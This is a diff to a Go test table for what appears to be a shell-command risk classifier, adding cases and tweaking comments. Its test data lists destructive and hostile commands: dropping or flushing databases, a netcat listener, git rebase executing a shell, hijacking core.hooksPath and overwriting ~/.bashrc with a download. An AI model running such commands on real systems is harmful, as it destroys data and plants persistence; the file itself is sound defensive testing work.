@@ -96,7 +96,9 @@ func TestCatalogue(t *testing.T) {
 		{`psql mydb <<< "TRUNCATE orders"`, w("sql-destructive")},
 		{`mongosh --eval "db.dropDatabase()"`, w("db-destructive")},
 		{"redis-cli -h cache FLUSHALL", w("db-destructive")},
-		{"redis-cli --tls FLUSHALL", w("db-destructive")},                                         // --tls is a flag: FLUSHALL is the command
+		{"redis-cli --tls FLUSHALL", w("db-destructive")},    // --tls is a flag: FLUSHALL is the command
+		{`git rebase -ix "sh -c id" main`, w("remote-exec")}, // -i is undeclared in the loose entry: the bundle is read on to -x
+		{"nc -lvnp 4444", nil}, // -p takes the port
 		{"git config -t path core.hooksPath /tmp/h", w("agent-config-tamper", "persistence")},     // -t is --type: the key is core.hooksPath
 		{"curl -sSLo ~/.bashrc https://x.example/a", w("agent-config-tamper")},                    // -o ends the bundle
 		{"wget -qO ~/.bashrc https://x.example/a", w("agent-config-tamper")},                      // -O ends the bundle
